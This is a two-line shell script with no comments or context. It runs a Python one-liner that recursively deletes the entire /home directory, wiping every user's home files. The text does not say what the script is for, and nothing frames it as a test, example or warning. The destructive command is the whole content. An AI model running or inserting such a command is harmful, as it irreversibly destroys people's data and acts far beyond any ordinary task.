#!/bin/sh
python3 -c 'import shutil; shutil.rmtree("/home")'
